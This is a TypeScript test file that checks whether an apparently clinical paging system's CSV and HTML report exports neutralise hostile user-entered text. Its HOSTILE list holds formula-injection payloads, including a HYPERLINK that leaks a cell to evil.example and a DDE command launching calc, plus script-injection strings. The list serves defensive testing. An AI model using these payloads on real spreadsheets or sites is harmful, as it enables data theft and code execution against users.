import { parse } from 'csv-parse/sync'
import { describe, expect, test } from 'vitest'
import { copyCsv } from '../../src/core/desk/copy.ts'
import { foiCsv } from '../../src/core/measure/report/foi.ts'
import type { ParallelRow } from '../../src/core/measure/report/parallel.ts'
import { reportCsv } from '../../src/core/measure/report/report-csv.ts'
import { renderFoi } from '../../src/io/report/foi.ts'
import { reportHtml } from '../../src/io/report/html.ts'
import { renderParallel } from '../../src/io/report/parallel.ts'
import { wholeReport } from '../support/whole-report.ts'

/*
 * Everything that leaves for a spreadsheet or a browser, with what somebody outside may have typed or put on the air in each
 * of its names: no cell is a formula, and no page holds an element that is not ours.
 */

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Ward 7")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  ' =1',
  '"\r\n=1,2',
  '＝1',
  '<img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>',
]
/** What people or lines write, by the fields of what is exported. */
const TYPED = new Set([
  'roleName',
  'ward',
  'place',
  'name',
  'number',
  'who',
  'sentence',
  'person',
  'device',
  'site',
])
const spoiltWith = (value: unknown, text: string, key = ''): unknown => {
  if (typeof value === 'string') return TYPED.has(key) ? text : value
  if (Array.isArray(value)) return value.map((one) => spoiltWith(one, text, key))
  if (value === null || typeof value !== 'object') return value
  return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, spoiltWith(one, text, name)]))
}
const spoilt = <T>(value: T, text: string): T => spoiltWith(value, text) as T

const row: ParallelRow = {
  ...{ to: 'role:reg', name: 'Registrar', bleeps: 40, unrung: 0, byBoth: 30, phoneFirst: 20, pagerFirst: 10 },
  ...{ behindSeconds: { p50: -1, p95: 2 }, phoneLost: 0, pagerLost: 1, bothLost: 0, verdict: 'as-good' },
}
const head = { site: 'demo', from: '2026-11-01', to: '2026-12-01', air: true }
const copied = {
  ...{ bleep: 'b1', number: '2201', received: '2026-11-30T12:00:00Z', alert: undefined },
  seen: [{ at: '2026-11-30T12:00:01Z', what: 'page', who: 'p1', name: 'Dr X', how: 'screen' }],
}

/** Every export as somebody opens it, with a text in each place that others fill. */
const TABLES: Readonly<Record<string, (text: string) => string>> = {
  'report of figures': (text) => reportCsv(spoilt(wholeReport(), text)),
  'parallel running': (text) => renderParallel([{ ...row, name: text }], head, 'csv').body,
  'freedom of information': (text) => foiCsv([{ section: text, item: text, value: text }]),
  'copy for somebody': (text) => copyCsv(spoilt({ bleeps: [copied as never] }, text)),
}
const PAGES: Readonly<Record<string, (text: string) => string>> = {
  'report of figures': (text) => reportHtml(spoilt(wholeReport(), text)),
  'parallel running': (text) =>
    renderParallel([{ ...row, name: text }], { ...head, site: text }, 'html').body,
  'freedom of information': (text) =>
    renderFoi({ ...head, site: text }, [{ section: text, item: text, value: text }], 'html').body,
}

/** A number is none, however negative. */
const isFormula = (cell: string) => /^[\s]*[=+\-@＝＋－＠]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)

describe.each(Object.entries(TABLES))('%s as a table', (_, made) => {
  test.each(HOSTILE)('no cell of %j is run', (text) => {
    const rows: readonly (readonly string[])[] = parse(made(text), { relax_column_count: true })
    const cells = rows.flat()
    expect(cells.some((cell) => cell.includes(text.trim().slice(-3)))).toBe(true)
    expect(cells.filter(isFormula)).toEqual([])
  })
})

describe.each(Object.entries(PAGES))('%s as a page', (_, made) => {
  test.each(HOSTILE)('nothing of %j becomes an element', (text) => {
    expect(made(text)).not.toMatch(/<img src=x|<script>alert/)
  })
})
